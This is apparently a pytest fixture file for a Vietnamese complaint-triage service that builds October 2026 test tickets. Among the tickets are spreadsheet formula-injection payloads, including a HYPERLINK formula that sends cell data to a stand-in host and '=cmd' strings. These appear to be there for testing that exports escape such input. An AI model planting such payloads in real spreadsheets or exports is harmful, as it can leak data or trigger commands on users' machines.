"""A small October 2026 with formula-like text, phone numbers and three agencies."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from tests.conftest import unavailable
from tests.factories import reports as f
from triage.db import session_scope
from triage.settings import get_settings

PAYLOADS = ('=HYPERLINK("http://x?"&A1,"bấm")', "+84 cộng", "@SUM(1,2)", "-1+2")
PLACES = ("\t=cmd", "\r=cmd", "- đường hư", "Phường Mỹ Phú")
CALLER_PHONE = "+84912345678"
TEXT_PHONE = "0987 654 321"


@pytest.fixture
def october(database: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    """Tickets for so-yt and so-xd in October 2026; returns their codes by name."""
    monkeypatch.setenv("TRIAGE_DATA_DIR", str(tmp_path / "data"))
    get_settings.cache_clear()
    codes: dict[str, str] = {}
    with session_scope() as s:
        f.agencies(s)
        for i, payload in enumerate(PAYLOADS):
            t = f.ticket(s, f.local(2026, 10, 5 + i, 9, 0), flags=("tre_han",), text=payload,
                         phone=CALLER_PHONE)
            t.location = {"ward_name": PLACES[i]}
            codes[payload] = t.code
        hint = f.ticket(s, f.local(2026, 10, 12, 9, 0), flags=("tre_han",), agency="so-xd",
                        text=f"Đường hư ở ấp 3, gọi {TEXT_PHONE} để biết thêm. Nguyễn Văn An.")
        codes["so-xd"] = hint.code
        f.assign(s, hint, "so-xd", f.local(2026, 10, 12, 10), f.local(2026, 10, 16, 17))
        rude = f.ticket(s, f.local(2026, 10, 13, 9, 0), flags=("thai_do",),
                        text="Cán bộ một cửa hách dịch, gây phiền hà cho người dân.")
        codes["thai_do"] = rude.code
        first = f.ticket(s, f.local(2026, 10, 5, 9, 0))
        f.assign(s, first, "so-yt", f.local(2026, 10, 5, 10), f.local(2026, 10, 9, 17),
                 answered=f.local(2026, 10, 14, 8))
        codes["late"] = first.code
    return codes


def soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if not found:
        unavailable("LibreOffice (soffice) is not installed")
    assert found is not None
    return found


def poppler(tool: str) -> str:
    found = shutil.which(tool)
    if not found:
        unavailable(f"{tool} (poppler-utils) is not installed")
    assert found is not None
    return found
